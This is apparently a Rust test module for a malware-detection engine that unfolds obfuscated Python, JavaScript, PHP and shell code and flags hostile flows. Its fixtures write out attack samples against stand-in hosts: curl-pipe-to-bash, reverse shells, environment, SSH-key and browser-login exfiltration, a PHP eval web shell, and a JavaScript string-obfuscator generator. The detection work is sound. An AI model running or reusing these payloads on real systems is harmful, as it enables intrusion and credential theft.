//! What is followed and folded, over snippets.

mod aside;
mod asked;
mod bundled;
mod compiled;
mod curly;
mod drawn;
mod frameworks;
mod handed;
mod hidden;
mod honest;
mod implants;
mod kept;
mod laid;
mod light;
mod made;
mod named;
mod prompted;
mod pumped;
mod r;
mod reached;
mod recreated;
mod registered;
mod served;
mod shown;
mod spelled;

use super::event::{Act, Event, When};
use super::flows;
use super::machine::{Machine, Outcome, Reach};
use super::value::Labels;
use crate::parse::script::{Language, read};

fn outcome(language: Language, code: &str) -> Outcome {
    Machine::new(read(language, code), Reach { fuel: 2_000_000, more: 0, patience: 300_000 }).run()
}

fn python(code: &str) -> Outcome {
    outcome(Language::Python, code)
}

fn rules(language: Language, code: &str) -> Vec<&'static str> {
    let outcome = outcome(language, code);
    flows::judge(&outcome, false).iter().map(|f| f.rule.id).collect()
}

fn event(outcome: &Outcome, act: Act) -> &Event {
    outcome.events.iter().find(|e| e.act == act).unwrap_or_else(|| panic!("no {act:?} in {:?}", outcome.events))
}

fn subject(outcome: &Outcome, act: Act) -> &str {
    event(outcome, act).subject.as_deref().unwrap_or_default()
}

/// The command that a snippet starts.
fn command(language: Language, code: &str) -> String {
    subject(&outcome(language, code), Act::Run).to_owned()
}

#[test]
fn constants_fold_whatever_they_are_hidden_behind() {
    let cases = [
        "import os; os.system('ec' + 'ho' + ' hi')",
        "import os; os.system(''.join(['ec', 'ho', ' hi']))",
        "import os; os.system('ih ohce'[::-1])",
        "import os; os.system(''.join(chr(c) for c in [101,99,104,111,32,104,105]))",
        "import os; os.system(''.join(map(chr, [101,99,104,111,32,104,105])))",
        "import os, base64; os.system(base64.b64decode('ZWNobyBoaQ==').decode())",
        "import os; os.system(bytes.fromhex('6563686f206869').decode())",
        "import os, codecs; os.system(codecs.decode('rpub uv', 'rot13'))",
        "import os; os.system('%s %s' % ('echo', 'hi'))",
        "import os; os.system('{} {}'.format('echo', 'hi'))",
        "import os; a = 'echo'; os.system(f'{a} hi')",
        "import os; k = 7; os.system(''.join(chr(ord(c) ^ k) for c in 'bdoh\\'on'))",
        "import os; d = {'a': 'echo hi'}; os.system(d['a'])",
        "import os\ndef f(x):\n    return x + ' hi'\nos.system(f('echo'))",
        "import os; (lambda f: f('echo hi'))(os.system)",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo hi')",
        "from os import system as s; s('echo hi')",
        "import os\nclass A:\n    def __init__(self):\n        self.c = 'echo'\n    def go(self):\n        os.system(self.c + ' hi')\nA().go()",
        "import os\nout = ''\nfor c in 'echo hi':\n    out += c\nos.system(out)",
        "import os\ni = 0\nout = ''\nwhile i < 7:\n    out += 'echo hi'[i]\n    i += 1\nos.system(out)",
        "exec('import os; os.system(\"echo hi\")')",
        "import subprocess; subprocess.run('echo hi', shell=True)",
    ];
    for code in cases {
        assert_eq!(command(Language::Python, code), "echo hi", "{code}");
    }
}

#[test]
fn javascript_folds_the_same() {
    let cases = [
        "require('child_process').exec('ec' + 'ho hi')",
        "const { exec: e } = require('child_process'); e(Buffer.from('ZWNobyBoaQ==', 'base64').toString())",
        "const c = require('node:child_process'); c['ex' + 'ec'](atob('ZWNobyBoaQ=='))",
        "require('child_process').exec(['ih', 'ohce'].map(s => s.split('').reverse().join('')).reverse().join(' '))",
        "require('child_process').exec(String.fromCharCode(101, 99, 104, 111, 32, 104, 105))",
        "import { exec } from 'child_process'; const a = `echo`; exec(`${a} hi`)",
        "eval(\"require('child_process').exec('echo hi')\")",
        // A rotated table of strings, as obfuscators make it.
        "var t = ['exec', 'hi', 'child_process', 'echo ']; (function (a, n) { while (--n) { a.push(a.shift()); } })(t, 3);\
         function d(i) { return t[i]; } require(d(0))[d(2)](d(1) + d(3));",
    ];
    for code in cases {
        assert_eq!(command(Language::JavaScript, code), "echo hi", "{code}");
    }
}

#[test]
fn what_encoders_encode_the_folder_decodes() {
    use base64::Engine as _;
    // A simple generator is enough: the point is variety, not randomness.
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..200 {
        let text: String = (0..next() % 40 + 1).map(|_| char::from(b'!' + (next() % 90) as u8)).collect();
        let text = text.replace(['\'', '\\', '"', '{', '}', '%', '`', '$'], "x");
        let mut literal = text.clone().into_bytes();
        let mut code = String::new();
        for _ in 0..next() % 3 + 1 {
            match next() % 4 {
                0 => {
                    literal = base64::engine::general_purpose::STANDARD.encode(&literal).into_bytes();
                    code.insert_str(0, "v = base64.b64decode(v)\n");
                }
                1 => {
                    literal = literal.iter().map(|b| format!("{b:02x}")).collect::<String>().into_bytes();
                    code.insert_str(0, "v = bytes.fromhex(v.decode())\n");
                }
                2 => {
                    literal.reverse();
                    code.insert_str(0, "v = v[::-1]\n");
                }
                _ => {
                    let key = (next() % 7 + 1) as u8;
                    literal.iter_mut().for_each(|b| *b ^= key);
                    code.insert_str(0, &format!("v = bytes([b ^ {key} for b in v])\n"));
                }
            }
        }
        let escaped: String = literal.iter().map(|b| format!("\\x{b:02x}")).collect();
        let code = format!("import base64, os\nv = b'{escaped}'\n{code}os.system('run ' + v.decode())\n");
        assert_eq!(command(Language::Python, &code), format!("run {text}"), "{code}");
    }
}

#[test]
fn flows_are_followed_from_end_to_end() {
    let cases: [(&str, Language, &str); 16] = [
        (
            "flow-download-run",
            Language::Python,
            "import requests, os\nopen('/tmp/x','wb').write(requests.get('http://h.invalid/x').content)\nos.system('/tmp/x')",
        ),
        (
            "flow-download-run",
            Language::Python,
            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://h.invalid/x', 'x.bin')\nsubprocess.Popen(['./x.bin'])",
        ),
        ("flow-remote-code", Language::Python, "import requests\nexec(requests.get('http://h.invalid/x').text)"),
        (
            "flow-remote-code",
            Language::JavaScript,
            "require('https').get('https://h.invalid/x', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); })",
        ),
        (
            "flow-remote-code",
            Language::JavaScript,
            "const axios = require('axios'); (async () => { const r = await axios.get('https://h.invalid'); new Function(r.data.x)(); })()",
        ),
        ("flow-remote-code", Language::Shell, "curl -s https://h.invalid/x | bash"),
        (
            "flow-environment-sent",
            Language::Python,
            "import os, requests, json\nrequests.post('https://h.invalid', data=json.dumps(dict(os.environ)))",
        ),
        (
            "flow-environment-sent",
            Language::JavaScript,
            "fetch('https://h.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
        ),
        (
            "flow-identity-sent",
            Language::Python,
            "import socket, getpass, requests\nrequests.get('https://h.invalid', params={'h': socket.gethostname(), 'u': getpass.getuser()})",
        ),
        (
            "flow-dns-exfiltration",
            Language::Python,
            "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.invalid')",
        ),
        (
            "flow-reverse-shell",
            Language::Python,
            "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
        ),
        ("flow-reverse-shell", Language::Shell, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        (
            "flow-hidden-code-acts",
            Language::Python,
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        ),
        (
            "flow-decoded-command",
            Language::Python,
            "import base64, os\nos.system(base64.b64decode('ZWNobyBoaSB0aGVyZQ==').decode())",
        ),
        ("flow-persists", Language::Python, "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('nohup x &')"),
        (
            "flow-stores-sent",
            Language::Python,
            "import os, requests\nd = open(os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', 'rb').read()\nrequests.post('https://h.invalid', files={'f': d})",
        ),
    ];
    for (rule, language, code) in cases {
        let rules = rules(language, code);
        assert!(rules.contains(&rule), "{rule} not in {rules:?} for {code}");
    }
}

#[test]
fn capabilities_are_no_flows() {
    let honest: [(Language, &str); 8] = [
        (Language::Python, "import requests\ndef get(url):\n    return requests.get(url).json()"),
        (Language::Python, "import subprocess\ndef git(*args):\n    return subprocess.check_output(['git', *args])"),
        (
            Language::Python,
            "import os, requests\ndef call(q):\n    return requests.post('https://api.h.invalid', headers={'Authorization': os.environ['API_TOKEN']}, json=q)",
        ),
        (
            Language::Python,
            "import base64\nLOGO = base64.b64decode('aGVsbG8gd29ybGQ=')\nopen('logo.png', 'wb').write(LOGO)",
        ),
        (
            Language::Python,
            "import platform, requests\ndef ua():\n    return requests.get('https://h.invalid', headers={'User-Agent': platform.system()})",
        ),
        (
            Language::JavaScript,
            "const cp = require('child_process'); exports.build = () => cp.execSync('node-gyp rebuild')",
        ),
        (Language::JavaScript, "module.exports = (env) => ({ ...process.env, ...env })"),
        (Language::Shell, "set -e\ncd src && make install"),
    ];
    for (language, code) in honest {
        assert!(rules(language, code).is_empty(), "{:?} for {code}", rules(language, code));
    }
}

#[test]
fn when_code_runs_is_told() {
    let at = |code: &str| event(&python(code), Act::Run).when;
    assert_eq!(at("import os; os.system('x')"), When::Load);
    assert_eq!(at("import os\ndef f():\n    os.system('x')"), When::Called);
    assert_eq!(at("import os\nif __name__ == '__main__':\n    os.system('x')"), When::Main);
    let hooked = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
        class I(install):\n    def run(self):\n        os.system('x')\nsetup(name='x', cmdclass={'install': I})";
    assert_eq!(at(hooked), When::Install);
}

#[test]
fn conditions_are_kept_with_what_they_guard() {
    let found = python("import os, locale\nif locale.getlocale()[0] == 'xx':\n    os.system('x')");
    assert!(event(&found, Act::Run).given.any(Labels::LOCALE));
    // Both branches of what is not known are gone through.
    let found = python("import os, sys\nif sys.argv[1]:\n    c = 'a'\nelse:\n    c = 'b'\nos.system(c)");
    assert!(matches!(subject(&found, Act::Run), "a" | "b"));
}

#[test]
fn hostile_scripts_end() {
    let doubling = format!("a = 'x'\n{}", "a = a + a\n".repeat(60));
    let nested = format!("{}1{}", "f(".repeat(150), ")".repeat(150));
    let lists = format!("a = [1]\n{}", "a = [a, a, a, a]\n".repeat(40));
    for code in [
        "while True:\n    pass\n",
        "def f():\n    return f() + f()\nf()\n",
        "x = 1\nwhile x:\n    x = x + 1\n",
        "for i in range(10**9):\n    x = 'a' * i\n",
        "x = 'a' * 10**12\ny = x * 10**12\n",
        "exec('exec(x)' * 1000)\n",
        "x = 'exec(x)'\nexec(x)\n",
        doubling.as_str(),
        nested.as_str(),
        lists.as_str(),
        "import os\nfor a in os.environ:\n    for b in os.environ:\n        for c in os.environ:\n            os.system(a + b + c)\n",
    ] {
        let found = python(code);
        assert!(found.events.len() < 100, "{code}");
    }
    for code in [
        "for (;;) {}",
        "function f() { return f() + f() } f()",
        "a = []; a[0] = a; JSON.stringify(a); a.toString()",
        "while (x = y) {}",
    ] {
        let found = outcome(Language::JavaScript, code);
        assert!(found.events.len() < 100, "{code}");
    }
}

/// Strings under RC4 and base64 with small letters first, taken from a table that is turned until a sum fits: what
/// obfuscators of JavaScript write, made here from scratch.
fn string_table(strings: &[&str], turned: usize, code: &str) -> String {
    use base64::Engine as _;
    let alphabet = base64::alphabet::Alphabet::new("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/");
    let engine = base64::engine::GeneralPurpose::new(&alphabet.unwrap(), base64::engine::general_purpose::NO_PAD);
    let mut table: Vec<String> = strings
        .iter()
        .map(|text| {
            let stream = super::fold::cipher::rc4_stream(&"k3y".encode_utf16().collect::<Vec<_>>()).unwrap();
            let locked: String = text.chars().zip(stream).map(|(c, k)| char::from(c as u8 ^ k)).collect();
            format!("'{}'", engine.encode(locked))
        })
        .collect();
    table.rotate_right(turned % strings.len());
    format!(
        "function table() {{ var all = [{}]; table = function () {{ return all; }}; return table(); }}
         function get(i, key) {{
             var text = table()[i - 100];
             if (get.ready === undefined) {{
                 var open = function (coded) {{
                     var letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=', out = '', hex = '';
                     for (var n = 0, bits, c, at = 0; c = coded.charAt(at++); ~c && (bits = n % 4 ? bits * 64 + c : c, n++ % 4)
                         ? out += String.fromCharCode(255 & bits >> (-2 * n & 6)) : 0) {{ c = letters.indexOf(c); }}
                     for (var i = 0; i < out.length; i++) {{ hex += '%' + ('00' + out.charCodeAt(i).toString(16)).slice(-2); }}
                     return decodeURIComponent(hex);
                 }};
                 get.unlock = function (coded, key) {{
                     var s = [], j = 0, x, out = ''; coded = open(coded); var i;
                     for (i = 0; i < 256; i++) {{ s[i] = i; }}
                     for (i = 0; i < 256; i++) {{ j = (j + s[i] + key.charCodeAt(i % key.length)) % 256; x = s[i]; s[i] = s[j]; s[j] = x; }}
                     i = 0; j = 0;
                     for (var y = 0; y < coded.length; y++) {{
                         i = (i + 1) % 256; j = (j + s[i]) % 256; x = s[i]; s[i] = s[j]; s[j] = x;
                         out += String.fromCharCode(coded.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]);
                     }}
                     return out;
                 }};
                 get.seen = {{}}; get.ready = true;
             }}
             var first = table()[0];
             get.first !== first && (get.seen = {{}}, get.first = first);
             var known = get.seen[i];
             return known === undefined ? (text = get.unlock(text, key), get.seen[i] = text) : text = known, text;
         }}
         (function (make, sum) {{
             var all = make();
             while (!![]) {{
                 try {{ if (parseInt(get(100, 'k3y')) / 1 === sum) break; else all['push'](all['shift']()); }}
                 catch (e) {{ all['push'](all['shift']()); }}
             }}
         }})(table, 4711);
         {code}",
        table.join(",")
    )
}

#[test]
fn turned_tables_of_locked_strings_open() {
    let strings = ["4711start", "https://collect.invalid/x", "stringify", "env", "POST"];
    let code =
        "fetch(get(101, 'k3y'), { method: get(104, 'k3y'), body: JSON[get(102, 'k3y')](process[get(103, 'k3y')]) });";
    for turned in 0..strings.len() {
        let outcome = outcome(Language::JavaScript, &string_table(&strings, turned, code));
        assert_eq!(subject(&outcome, Act::Send), "https://collect.invalid/x", "turned by {turned}");
        assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL) && !outcome.cut_off);
    }
}

#[test]
fn many_locked_strings_cost_little() {
    let mut strings: Vec<String> = (0..200).map(|i| format!("word number {i}")).collect();
    strings.insert(0, "4711start".to_owned());
    let strings: Vec<&str> = strings.iter().map(String::as_str).collect();
    let outcome =
        outcome(Language::JavaScript, &string_table(&strings, 150, "fetch('https://h.invalid/' + get(180, 'k3y'))"));
    assert_eq!(subject(&outcome, Act::Fetch), "https://h.invalid/word number 79");
    assert!(!outcome.cut_off);
}

#[test]
fn what_scripts_of_javascript_do_to_be_hard_to_read_folds() {
    let cases = [
        // Order of statements behind a switch, with a label.
        "var o = '2|0|1'.split('|'), i = 0, s = ''; run: while (true) { switch (o[i++]) { case '0': s += 'llect.inv'; continue; case '1': s += 'alid/'; break run; case '2': s += 'https://co'; continue; } } fetch(s);",
        // Variables of a function hide those outside even when they get no value where they are declared.
        "var s = 'https://collect.invalid/'; function f() { var s; s = 'other'; return s; } f(); fetch(s);",
        // Fields of functions, prototypes, functions in tables.
        "function f() { return f.part + 'invalid/'; } f.part = 'https://collect.'; fetch(f());",
        "function F(a) { this.a = a; } F.prototype.get = function () { return this.a + 'invalid/'; }; fetch(new F('https://collect.').get());",
        "const t = { add: function (a, b) { return a + b; } }; fetch(t['add']('https://collect.', 'invalid/'));",
        // Regular expressions.
        "fetch('hxxps://collect[.]invalid/'.replace(/^hxx/, 'htt').replace(/\\[\\.\\]/g, '.'));",
        "fetch('h1t2t3p4s5:6/7/collect.invalid/'.split(/\\d/).join(''));",
        "if (/^[a-c]+$/.test('abc')) fetch('https://collect.invalid/'); else fetch('https://other.invalid/');",
        // Bytes.
        "fetch(new TextDecoder().decode(new Uint8Array([104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,46,105,110,118,97,108,105,100,47])));",
        "fetch(Buffer.from([104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,46,105,110,118,97,108,105,100,47]).toString());",
        // Scripts that ask for their own text do not get caught in their own traps.
        "if (('' + function () { return 1; }).indexOf('\\n') === -1) fetch('https://collect.invalid/'); else while (true) {}",
    ];
    for code in cases {
        let outcome = outcome(Language::JavaScript, code);
        let all: Vec<&str> = outcome.events.iter().filter_map(|e| e.subject.as_deref()).collect();
        assert_eq!(all, ["https://collect.invalid/"], "{code}");
    }
}

#[test]
fn a_loop_that_never_ends_leaves_the_rest_to_be_followed() {
    for code in [
        "var i = 0; while (i >= 0) { i++; } fetch('https://collect.invalid/', { body: JSON.stringify(process.env) });",
        "for (var a = [1], i = 0; i < a.length; i++) { a.push(i); } fetch('https://collect.invalid/', { body: JSON.stringify(process.env) });",
    ] {
        let outcome = outcome(Language::JavaScript, code);
        assert!(outcome.cut_off, "{code}");
        assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL));
    }
}

#[test]
fn handlers_are_followed_once_and_change_nothing_before() {
    let code = "var a = ['b', 'a']; try { a.push(a.shift()); } catch (e) { a.push(a.shift()); fetch('https://handler.invalid/'); }
                fetch('https://' + a[0] + '.invalid/');";
    let outcome = outcome(Language::JavaScript, code);
    let all: Vec<&str> = outcome.events.iter().filter_map(|e| e.subject.as_deref()).collect();
    assert_eq!(all, ["https://a.invalid/", "https://handler.invalid/"]);
}

#[test]
fn long_chains_of_conditions_are_no_depth() {
    let mut code = "import sys\nimport requests\nx = sys.argv[1]\nif x == '0':\n    pass\n".to_owned();
    for i in 1..2000 {
        code.push_str(&format!("elif x == '{i}':\n    pass\n"));
    }
    code.push_str("else:\n    requests.get('https://last.invalid/')\n");
    let outcome = python(&code);
    assert!(!outcome.cut_off);
    assert_eq!(subject(&outcome, Act::Fetch), "https://last.invalid/");
}

#[test]
fn what_is_written_and_started_is_followed() {
    let written = rules(
        Language::Python,
        "import os, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'import urllib.request\\nexec(urllib.request.urlopen(\"https://h.invalid/x\").read())')\nos.system(f'start {sys.executable} {f.name}')",
    );
    assert!(written.contains(&"flow-remote-code"), "{written:?}");
    let shell = rules(
        Language::Python,
        "import os\nopen('/tmp/a.sh', 'w').write('#!/bin/sh\\ncurl -s https://h.invalid/x | sh')\nos.system('chmod +x /tmp/a.sh; /tmp/a.sh')",
    );
    assert!(shell.contains(&"flow-remote-code") || shell.contains(&"flow-download-run"), "{shell:?}");
}

#[test]
fn code_that_stands_nowhere_as_it_runs_was_concealed() {
    let run =
        "new Function('require', [@].map(function (c) { return String.fromCharCode(c ^ 7); }).join(''))(require);";
    let code: Vec<String> =
        "require('child_process').exec('whoami; hostname; id; uname')".bytes().map(|b| (b ^ 7).to_string()).collect();
    let hidden = rules(Language::JavaScript, &run.replace('@', &code.join(",")));
    assert!(hidden.contains(&"flow-hidden-code-acts"), "{hidden:?}");
    let plain = rules(
        Language::JavaScript,
        "var open = \"require('child_process')\", rest = \".exec('whoami; hostname; id; uname')\"; new Function('require', open + rest)(require);",
    );
    assert!(!plain.contains(&"flow-hidden-code-acts"), "{plain:?}");
}

#[test]
fn choices_that_the_surroundings_make_are_seen() {
    let alike =
        |code: &str| outcome(Language::JavaScript, code).choices.iter().filter(|c| c.is_among_look_alikes()).count();
    let zone = "const z = Intl.DateTimeFormat().resolvedOptions().timeZone;";
    assert_eq!(alike(&format!("{zone} const q = z === 'Region/City' ? '\\u2019' : \"'\";")), 1);
    assert_eq!(alike(&format!("{zone} let q; if (z === 'Region/City') {{ q = '\\u2019'; }} else {{ q = \"'\"; }}")), 1);
    assert_eq!(alike(&format!("{zone} const q = [\"'\", '\\u2019'][+(z === 'Region/City')];")), 1);
    assert_eq!(alike(&format!("{zone} const q = z === 'Region/City' ? 'yes' : 'no';")), 0);
    let hidden =
        |code: &str| outcome(Language::JavaScript, code).choices.iter().filter(|c| c.is_by_hidden_list()).count();
    assert_eq!(
        hidden(
            "const l = atob('cHJveHkuaW52YWxpZCxnYXRlLmludmFsaWQ=').split(','); if (l.includes(process.env.HTTPS_PROXY)) { mark(); }"
        ),
        1
    );
    assert_eq!(
        hidden(
            "const l = 'proxy.invalid,gate.invalid'.split(','); if (l.includes(process.env.HTTPS_PROXY)) { mark(); }"
        ),
        0
    );
}

#[test]
fn generators_written_as_state_machines_hand_on_what_they_wait_for() {
    for code in [
        "g(function (_a) { switch (_a.label) { case 0: return [4, fetch('https://h.invalid/x')]; case 1: r = _a.sent(); new Function('require', r.data)(require); } });",
        "g(function (c) { while (1) switch (c.p = c.n) { case 0: c.n = 1; return fetch('https://h.invalid/x'); case 1: r = c.v; new Function('require', r.data)(require); } });",
    ] {
        let rules = rules(Language::JavaScript, code);
        assert!(rules.contains(&"flow-remote-code"), "{code}: {rules:?}");
    }
}

#[test]
fn wrappers_around_modules_are_the_modules() {
    let code = "var star = function (mod) { if (mod && mod.__esModule) return mod; var result = {}; result['default'] = mod; return result; };
                var plain = function (mod) { return mod && mod.__esModule ? mod : { default: mod }; };
                const os = star(require('os')), axios = plain(require('axios'));
                axios.default.post('https://h.invalid/', os.hostname() + os.userInfo().username);";
    let outcome = outcome(Language::JavaScript, code);
    assert!(event(&outcome, Act::Send).data.count(Labels::HOSTNAME.with(Labels::USER)) == 2);
}

#[test]
fn functions_of_php_are_called_by_names_put_together() {
    let code = "<?php $re = str_replace('fd', '', 'sfdtfdr_fdrefdplace'); $l = $re('p', '', 'pcrepaptpe_fupncptpipopn'); $f = $l('$a', $_POST['x']); $f(1);";
    assert!(rules(Language::Php, code).contains(&"flow-remote-code"));
    // A shell that is asked over the web needs no address: whoever asks is the other side.
    let outcome = outcome(Language::Php, "<?php eval($_POST['x']);");
    let flows = flows::judge(&outcome, false);
    assert!(flows.iter().any(|f| f.rule.id == "flow-remote-code" && f.severity.is_none()));
}

#[test]
fn a_decoder_that_also_acts_is_not_done_by_heart() {
    let decoder = "function open(coded) { GUARD
        var letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=', raw = '', hex = '';
        for (var n = 0, bits, c, at = 0; c = coded.charAt(at++); ~c && (bits = n % 4 ? bits * 64 + c : c, n++ % 4) ? raw += String.fromCharCode(255 & bits >> (-2 * n & 6)) : 0) { c = letters.indexOf(c); }
        for (var k = 0; k < raw.length; k++) { hex += '%' + ('00' + raw.charCodeAt(k).toString(16)).slice(-2); }
        return decodeURIComponent(hex); }
        for (var i = 0; i < 9; i++) { open('zMLYC3qGDgv4Da'); open('C2vJB25KihrLEhq'); }
        open('DgHPCMqGDgv4Da');";
    for guard in [
        "calls++; if (calls > 7) fetch('https://h.invalid/late');",
        "if (coded === 'DgHPCMqGDgv4Da') fetch('https://h.invalid/special');",
        "if (open.count = (open.count || 0) + 1, open.count > 7) fetch('https://h.invalid/carried');",
    ] {
        let code = format!("var calls = 0; {}", decoder.replace("GUARD", guard));
        let outcome = outcome(Language::JavaScript, &code);
        assert_eq!(event(&outcome, Act::Fetch).when, When::Load, "{guard}");
    }
}

#[test]
fn long_texts_and_executed_texts_cannot_hang() {
    let long = "a\u{e9}".repeat(400_000);
    for (language, code) in [
        (Language::Python, format!("s = '{long}'\ni = 0\nwhile i < len(s):\n    i += 1\n")),
        (
            Language::JavaScript,
            format!("const s = '{long}'; for (let i = 0; i < s.length; i++) {{ s.charCodeAt(i); }}"),
        ),
        (
            Language::JavaScript,
            format!(
                "const s = '{long}'; for (let i = 0; i < 1e6; i++) {{ eval('x'.repeat(60) + i); s.indexOf('b'); }}"
            ),
        ),
    ] {
        let fuel = 6_000_000;
        let started = Machine::new(read(language, &code), Reach { fuel, more: 0, patience: 300_000 }).run();
        assert!(started.events.len() < 8);
    }
}

#[test]
fn what_the_standard_library_holds_is_known() {
    let cases = [
        (
            "import string, os\nl = string.ascii_letters\nr = l[::-1]\nos.system(''.join(r[l.index(c)] if c in l else c for c in 'VXSL SR'))",
            "echo hi",
        ),
        ("from string import ascii_lowercase as a\nimport os\nos.system(a[4] + a[2])", "ec"),
        ("import sys, os\nos.system('two' if sys.version_info[0] == 2 else 'three')", "three"),
        ("import os\nos.system(str().join(['ec', 'ho']))", "echo"),
        ("f = globals()['__builtins__'].get('__import__')\nf('os').system('hi')", "hi"),
    ];
    for (code, expected) in cases {
        let found = command(Language::Python, code);
        // `in` over letters of both cases turns lower into upper.
        assert_eq!(found.to_ascii_lowercase(), expected, "{code}");
    }
}

#[test]
fn keys_of_wallets_that_go_anywhere_else_are_told_from_keys_of_services() {
    let wallet = "import bs58 from 'bs58'; class Loader { static add(p) { const b = bs58.encode(p); \
                  fetch('https://rpc.invalid/queue', { method: 'POST', headers: { 'x-session-id': b.substring(32) } }) } } \
                  export class Keypair { static from(secretKey) { Loader.add(secretKey); return 1 } }";
    let outcome = outcome(Language::JavaScript, wallet);
    let flows = flows::judge(&outcome, false);
    assert!(flows.iter().any(|f| f.rule.id == "flow-key-sent" && f.certain), "{:?}", outcome.events);
    let service = "export function client(secretKey) { return fetch('https://api.pay.invalid/v1', \
                   { method: 'POST', headers: { Authorization: 'Bearer ' + secretKey } }) }";
    assert!(!rules(Language::JavaScript, service).contains(&"flow-key-sent"));
}

#[test]
fn programs_from_bare_numbers_and_hidden_files_have_no_honest_reading() {
    let certain = |code: &str| {
        let outcome = python(code);
        flows::judge(&outcome, false).iter().any(|f| f.rule.id == "flow-download-run" && f.certain)
    };
    let script = |host: &str, path: &str| {
        format!(
            "import requests, subprocess, sys\ndef f():\n    open('{path}', 'w').write(requests.get('http://{host}/a').text)\n    \
             subprocess.Popen([sys.executable, '{path}'])"
        )
    };
    assert!(certain(&script("203.0.113.9:81", "/var/x/helper.py")));
    assert!(certain(&script("h.invalid", "/home/u/.cache.py")));
    assert!(!certain(&script("h.invalid", "/home/u/.cache/helper.py")));
    assert!(!certain(&script("10.0.0.9", "/var/x/helper.py")));
}

#[test]
fn what_goes_with_credentials_does_not_make_them_weigh_less() {
    let code = "import requests, socket, getpass\ndef f(where):\n    k = open('/home/u/.ssh/id_rsa').read()\n    \
                requests.post('https://h.invalid/x', data={'k': k, 'h': socket.gethostname(), 'u': getpass.getuser()})";
    let found = rules(Language::Python, code);
    assert!(found.contains(&"flow-credentials-sent") && found.contains(&"flow-identity-sent"), "{found:?}");
}

#[test]
fn code_out_of_pictures_and_replaced_clients_are_followed() {
    let code = "const p = require('fs').readFileSync(__dirname + '/a.PNG'); eval(require('zlib').inflateSync(p.slice(9)).toString())";
    assert!(rules(Language::JavaScript, code).contains(&"flow-code-from-carrier"));
    assert!(!rules(Language::JavaScript, &code.replace(".PNG", ".mjs")).contains(&"flow-code-from-carrier"));
    let patch = "import requests\no = requests.Session.request\ndef r(self, m, url, **k):\n    \
                 requests.post('https://t.invalid/x', data=k)\n    return o(self, m, url, **k)\nrequests.Session.request = r";
    assert!(rules(Language::Python, patch).contains(&"flow-patched-client-tells"));
    let telling = patch.replace("'https://t.invalid/x'", "CONFIG.endpoint");
    assert!(!rules(Language::Python, &telling).contains(&"flow-patched-client-tells"));
    // What a module gives to others, and what it adds to an object, replaces nothing.
    for client in [
        "const h = require('https'); exports.get = (p) => h.get('https://api.service.invalid/' + p); exports.get('x')",
        "const c = module.exports; c.post = (u, b) => fetch('https://api.service.invalid/' + u, { method: 'POST', body: b })",
        "const app = require('./app'); app.send = (d) => fetch('https://api.service.invalid/', { method: 'POST', body: d })",
    ] {
        assert!(rules(Language::JavaScript, client).iter().all(|r| *r == "flow-calls-home"), "{client}");
    }
}

#[test]
fn code_in_an_option_of_its_own_word_is_followed() {
    let shell = |line: &str| rules(Language::Shell, line);
    assert!(shell(r#"perl -nle'system("curl https://h.invalid/x | sh")' f"#).contains(&"flow-remote-code"));
    assert!(shell(r#"ruby -e'system("curl https://h.invalid/x | sh")'"#).contains(&"flow-remote-code"));
    assert!(shell(r#"perl -nle 'print if /a/' f"#).is_empty() && shell("ruby -rset x.rb").is_empty());
}

#[test]
fn what_stands_in_an_address_does_not_make_it_a_demonstration() {
    let severity = |host: &str| {
        let code = format!("import requests, os\nrequests.post('{host}', data=dict(os.environ))");
        let outcome = python(&code);
        let flows = flows::judge(&outcome, false);
        let flow = flows.iter().find(|f| f.rule.id == "flow-environment-sent");
        flow.map(|f| f.finding(crate::model::Evidence::note("x")).severity)
    };
    use crate::model::Severity;
    assert_eq!(severity("https://api.example.com/x"), None);
    assert_eq!(severity("https://h.invalid/?x=example.com"), Some(Severity::High));
    assert_eq!(severity("https://badexample.com/"), Some(Severity::High));
}

#[test]
fn forms_and_messages_hold_what_is_put_into_them() {
    let code = "import aiohttp, socket, getpass\nasync def f():\n    d = aiohttp.FormData()\n    d.add_field('h', socket.gethostname())\n    \
                d.add_field('u', getpass.getuser())\n    await aiohttp.ClientSession().post('https://h.invalid/u', data=d)";
    assert!(rules(Language::Python, code).contains(&"flow-identity-sent"));
    let code = "import smtplib\nfrom email.mime.multipart import MIMEMultipart as M\nfrom email.mime.text import MIMEText\nm = M()\n\
                m.attach(MIMEText(open('/home/u/.ssh/id_rsa').read()))\nsmtplib.SMTP('h.invalid').sendmail('a', 'b', m.as_string())";
    assert!(rules(Language::Python, code).contains(&"flow-credentials-sent"));
}

#[test]
fn whoever_calls_a_collector_of_one_tester_is_seen() {
    let code = "import requests\ndef f():\n    requests.post('https://a1b2c3d4e5f6a7b8c9d0.oast.invalid', json={'m': 'imported'})";
    let outcome = python(code);
    assert!(flows::judge(&outcome, false).iter().any(|f| f.rule.id == "flow-calls-home" && f.certain));
    let scanner = code.replace("'https://a1b2c3d4e5f6a7b8c9d0.oast.invalid'", "'https://' + NAME + '.oast.invalid'");
    assert!(flows::judge(&python(&scanner), false).iter().all(|f| !f.certain));
}

#[test]
fn methods_that_a_script_gives_to_all_values_are_called() {
